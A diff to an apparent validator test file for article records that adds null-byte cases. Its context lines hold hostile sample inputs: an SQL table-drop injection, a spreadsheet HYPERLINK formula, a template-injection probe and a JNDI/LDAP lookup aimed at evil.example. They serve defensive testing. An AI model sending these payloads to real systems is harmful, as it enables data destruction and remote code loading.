@@ -48,6 +48,8 @@ WRITTEN_OUT: list[tuple[dict[str, Any], str | None, dict[str, str]]] = [
     ({"date": "2931-01-01"}, None, {"published_date": "date.unreadable"}),
     ({"date": NEXT_MONTH}, None, {"published_date": "article.published.range"}),
     ({"id": "a\ud800b"}, None, {}),
+    ({"id": "a\0b"}, None, {}),
+    ({"url": "https://quay-gazette.example/a\0b"}, None, {}),
     ({"title": "'; drop table fact_article; --"}, None, {}),
     ({"title": "=HYPERLINK(\"https://evil.example\")"}, None, {}),
     ({"title": "{{7*7}} ${jndi:ldap://evil.example/a} %n%s"}, None, {}),
